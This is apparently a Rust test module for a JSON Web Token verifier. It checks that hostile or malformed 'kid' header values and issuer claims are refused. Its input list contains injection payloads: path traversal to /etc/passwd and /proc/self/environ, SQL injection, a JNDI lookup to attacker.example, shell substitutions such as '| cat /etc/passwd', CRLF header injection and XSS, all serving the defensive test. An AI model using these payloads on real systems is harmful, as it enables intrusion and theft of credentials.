//! `kid` is an opaque text that chooses among the issuer's keys (J-7, J-18, V5).

use serde_json::json;

use crate::harness::{Draft, MARK, Refused, Row, attack, by, good, keys, trap};

const UNKNOWN: Refused = Refused::Invalid("unknown key");

pub fn rows() -> Vec<Row> {
    let mut rows = hostile();
    rows.extend(too_long());
    rows.extend(no_texts());
    rows.extend(not_worth_a_question());
    rows
}

/// Signed by `es-1`, so that only the name is wrong.
fn named(kid: &str) -> Draft {
    good().header("kid", kid)
}

/// Each of them may be the name of a key to come.
fn hostile() -> Vec<Row> {
    let here = trap().local_addr().unwrap();
    let kids = [
        "",
        " ",
        "ES-1",
        "es-1 ",
        " es-1",
        "es-1\u{0}",
        "\u{0}",
        "es-1\r\nX-Injected: 1",
        "%65s-1",
        "es-1/../es-1",
        "../../../../../../dev/null",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "/proc/self/environ",
        "file:///dev/null",
        "https://attacker.example/jwks",
        "' OR '1'='1",
        "'; DROP TABLE keys; --",
        "x' UNION SELECT 'AAAA",
        "\" } { \"$gt\": \"\"",
        "*)(uid=*",
        "$(id)",
        "`id`",
        "| cat /etc/passwd",
        "${jndi:ldap://attacker.example/a}",
        "{{7*7}}",
        "%s%n%x",
        "<script>alert(1)</script>",
        "🔑",
        "\u{202e}1-se",
        "e\u{301}s-1",
        "null",
        "0",
        "undefined",
        "[object Object]",
        "__proto__",
        "constructor",
        MARK,
    ];
    let mut rows: Vec<Row> = Vec::new();
    let address = format!("http://{here}/key");
    for kid in kids.into_iter().chain([address.as_str(), &"k".repeat(256)]) {
        let row = attack("J-7 J-18 V5", format!("kid {kid:?}"), named(kid), UNKNOWN);
        rows.push(
            row.asking_for_keys()
                .beside(good().header_written("kid", r#""\u0065s-1""#)),
        );
    }
    rows
}

/// No key has such a name.
fn too_long() -> Vec<Row> {
    let lengths = [257, 10_000].into_iter();
    lengths
        .map(|length| {
            let token = named(&"es-1".repeat(length)[..length]);
            let row = attack(
                "J-7 V5 V24",
                format!("a kid of {length} octets"),
                token,
                UNKNOWN,
            );
            row.beside(good())
        })
        .collect()
}

fn no_texts() -> Vec<Row> {
    let malformed = Refused::Invalid("malformed: header");
    [
        "null",
        "0",
        "1e400",
        "true",
        r#"["es-1"]"#,
        r#"{"kid":"es-1"}"#,
        r#""\ud800""#,
    ]
    .map(|kid| {
        let token = good().header_written("kid", kid);
        // Without a name each key of the algorithm is tried.
        let beside = by(&keys().es_next).without_header("kid");
        attack("J-7 V5 V6", format!("kid {kid}"), token, malformed).beside(beside)
    })
    .into()
}

/// Whatever the keys are, such a token would be refused: nobody is asked.
fn not_worth_a_question() -> Vec<Row> {
    let unknown = || by(&keys().es_next).header("kid", "new");
    let with_name = || by(&keys().es_next);
    let rows: [(&'static str, &str, Draft); 9] = [
        ("J-1 V5", "an ID token", unknown().header("typ", "JWT")),
        ("J-1 V5", "no typ", unknown().without_header("typ")),
        (
            "J-2 V5 V9",
            "an unknown issuer",
            unknown().claim("iss", "https://attacker.example"),
        ),
        (
            "J-2 V5 V9",
            "the issuer with a slash",
            unknown().claim("iss", "https://issuer.example/"),
        ),
        (
            "J-2 V5 V6",
            "a list of issuers",
            unknown().claim("iss", json!(["https://issuer.example"])),
        ),
        ("J-2 V5", "no issuer", unknown().without("iss")),
        (
            "J-11 V5",
            "two issuers",
            unknown().claim_first("iss", r#""https://issuer.example""#),
        ),
        (
            "J-19 V5",
            "no JSON",
            unknown().payload("iss=https://issuer.example"),
        ),
        ("J-19 V5", "no text", unknown().payload([0xff, 0xfe])),
    ];
    rows.into_iter()
        .map(|(ids, name, token)| {
            let name = format!("an unknown kid, {name}");
            attack(ids, name, token, UNKNOWN).beside(with_name())
        })
        .collect()
}
